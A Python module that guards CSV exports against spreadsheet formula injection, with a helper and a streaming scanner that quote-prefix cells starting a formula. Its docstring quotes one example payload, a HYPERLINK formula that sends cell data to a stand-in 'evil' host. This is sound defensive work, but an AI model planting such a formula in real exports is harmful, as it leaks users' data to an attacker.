"""CSV cells a spreadsheet will not run as formulas.

A model name is whatever a page says, so a hostile page can name a model
``=HYPERLINK("http://evil/?"&A1, "click")``; opened in Excel or LibreOffice, a CSV export would
run it. OWASP's advice (CSV injection) is to prefix a cell that starts with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return with a single quote, which spreadsheets show as text. Plain
numbers (``-0.5``, ``+3``) are left alone: they are what a price column holds, and a spreadsheet
reads them as numbers either way.

``safe_cell`` is for CSV we write ourselves; ``CsvFormulaGuard`` rewrites a CSV byte stream as it
is produced (Datasette's ``.csv`` pages stream rows), holding back at most the first characters
of one cell. It never parses rows with the ``csv`` module, whose reader refuses a field over
131,072 characters (a page's description can be megabytes).
"""

from __future__ import annotations

import codecs
import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def safe_cell(value: object) -> object:
    """The value, or a text a spreadsheet shows as text when it would start a formula."""
    if (isinstance(value, str) and value.startswith(FORMULA_STARTS)
            and not _PLAIN_NUMBER.fullmatch(value)):
        return "'" + value
    return value


# a cell that starts a formula but may still turn out a plain number is held back until it
# ends or stops looking like one; longer than this it is no number anyone wrote
_NUMBER_CHARS = frozenset("0123456789.eE+-")
_LONGEST_NUMBER = 64
# what ends an unquoted cell: the next cell or the line end
_UNQUOTED_END = re.compile(r"[,\r\n]")
# scanner states
_CELL, _VALUE_QUOTED, _VALUE_UNQUOTED, _HOLD, _QUOTED, _QUOTE_SEEN, _UNQUOTED = range(7)


class CsvFormulaGuard:
    """Rewrites UTF-8 CSV chunks so that no cell starts a formula.

    One pass over the stream, each character looked at once whatever the chunks (a 3 MB
    description in 8 KB chunks is not scanned again for every chunk), and a cell of any size
    streams through: only the first characters of a cell that starts like a formula are held
    back (at most ``_LONGEST_NUMBER``), until it shows whether it is a plain number (``-0.5``,
    left alone) or not (``-x``, prefixed with ``'``; inside the quotes when the cell is
    quoted). Everything else comes out byte for byte as it went in. Inside a cell the scanner
    jumps from one quote or separator to the next with ``str.find`` and a regex (C loops), so
    ``steps`` (one per jump) counts the Python-level work.
    """

    def __init__(self) -> None:
        self._decoder = codecs.getincrementaldecoder("utf-8")(errors="replace")
        self._state = _CELL
        self._quoted = False  # the current cell is quoted
        self._held = ""  # the start of a cell that may yet be a plain number
        self._carry = ""  # a quote after a held start, read again with the next chunk
        self.steps = 0

    def feed(self, chunk: bytes) -> bytes:
        return self._scan(self._decoder.decode(chunk)).encode("utf-8")

    def close(self) -> bytes:
        """Whatever is left (a last cell without a line end)."""
        out = self._scan(self._decoder.decode(b"", final=True))
        if self._state == _HOLD:  # the text ended inside the cell (or at its closing quote)
            out += self._decide(ended=True) + self._carry
            self._carry = ""
        self._state = _CELL
        return out.encode("utf-8")

    def _decide(self, *, ended: bool) -> str:
        """The held start of a cell, prefixed when it is not a plain number."""
        held, self._held = self._held, ""
        self._state = _QUOTED if self._quoted else _UNQUOTED
        number = ended and len(held) <= _LONGEST_NUMBER and _PLAIN_NUMBER.fullmatch(held)
        return held if number else "'" + held

    def _scan(self, text: str) -> str:
        text, self._carry = self._carry + text, ""
        out: list[str] = []
        i, n = 0, len(text)
        while i < n:
            self.steps += 1
            state = self._state
            if state == _CELL:  # a cell begins
                if text[i] == '"':
                    out.append('"')
                    i += 1
                    self._quoted, self._state = True, _VALUE_QUOTED
                else:
                    self._quoted, self._state = False, _VALUE_UNQUOTED
            elif state in (_VALUE_QUOTED, _VALUE_UNQUOTED):  # its first character
                char = text[i]
                quoted = state == _VALUE_QUOTED
                if char in FORMULA_STARTS and (quoted or char != "\r"):
                    self._held, self._state = char, _HOLD
                    i += 1
                else:
                    self._state = _QUOTED if quoted else _UNQUOTED
            elif state == _HOLD:
                char = text[i]
                if char in _NUMBER_CHARS and len(self._held) <= _LONGEST_NUMBER:
                    self._held += char
                    i += 1
                elif char == '"' and self._quoted and i + 1 == n:
                    self._carry = '"'  # the end of the cell, or '""' inside it: wait and see
                    break
                else:  # a quote, a separator, a line end or any other character
                    # in quotes, a quote ends the cell unless it is '""'
                    ends = (char == '"' and text[i + 1] != '"') if self._quoted else (
                        char in ",\r\n")
                    out.append(self._decide(ended=ends))
            elif state == _QUOTED:
                end = text.find('"', i)
                if end < 0:
                    out.append(text[i:])
                    break
                out.append(text[i:end + 1])
                i, self._state = end + 1, _QUOTE_SEEN
            elif state == _QUOTE_SEEN:  # '""' is a quote inside the cell; else the cell ended
                if text[i] == '"':
                    out.append('"')
                    i, self._state = i + 1, _QUOTED
                else:
                    self._state = _UNQUOTED
            else:  # _UNQUOTED: on to the next separator or line end
                match = _UNQUOTED_END.search(text, i)
                if match is None:
                    out.append(text[i:])
                    break
                end = match.end()
                out.append(text[i:end])
                i, self._state = end, _CELL
        return "".join(out)
